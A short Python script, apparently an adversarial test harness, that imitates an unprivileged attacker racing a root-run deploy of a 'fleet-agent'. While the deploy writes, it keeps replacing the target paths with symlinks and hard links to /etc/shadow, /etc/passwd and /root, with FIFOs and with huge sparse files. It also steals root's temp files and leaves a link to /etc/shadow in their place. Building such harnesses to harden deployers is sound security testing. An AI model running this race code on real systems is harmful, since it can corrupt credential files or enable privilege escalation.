"""A thief with an agent's account: puts links, folders, pipes and hard links where root looks."""

from __future__ import annotations

import os
import random
import shutil
import sys
import time
from contextlib import suppress

ELSEWHERE = ("/etc", "/etc/passwd", "/etc/shadow", "/root")
PLACES = ("config.json", "soul.md", "stand_in.py", "deep", "deep/down", "deep/down/config.json")
CAUGHT = "caught"
RELEASES = "/opt/fleet-agent/releases"


def clear(name: str) -> None:
    if os.path.isdir(name) and not os.path.islink(name):
        shutil.rmtree(name, ignore_errors=True)
    else:
        with suppress(OSError):
            os.unlink(name)


def folder(name: str) -> None:
    os.makedirs(f"{name}/down")


def file(name: str) -> None:
    with open(name, "w", encoding="utf-8") as made:
        made.write("mine")


def endless(name: str) -> None:
    file(name)
    os.truncate(name, 1 << 40)


def link(name: str) -> None:
    os.symlink(random.choice((*ELSEWHERE, name)), name)


def hard(name: str) -> None:
    os.link(random.choice(ELSEWHERE[1:3]), name)


def catch_what_root_writes() -> None:
    """Take the unfinished file away from under root, and put a link in its place."""
    for one in os.listdir("."):
        if one.startswith(".fleet-agent."):
            clear(CAUGHT)
            os.rename(one, CAUGHT)
            os.symlink("/etc/shadow", one)


def swap(seconds: float) -> None:
    end = time.monotonic() + seconds
    while time.monotonic() < end:
        with suppress(OSError):
            catch_what_root_writes()
        place = random.choice(PLACES)
        clear(place)
        with suppress(OSError):
            random.choice((link, hard, folder, file, os.mkfifo, endless))(place)


os.chdir(sys.argv[1])
print("waiting", flush=True)
before = os.listdir(RELEASES)
while True:
    while os.listdir(RELEASES) == before:
        time.sleep(0.002)
    # A deploy has passed its checks and begins to write.
    swap(random.uniform(0.5, 8))
    for one in PLACES:
        clear(one)
    time.sleep(3)
    before = os.listdir(RELEASES)
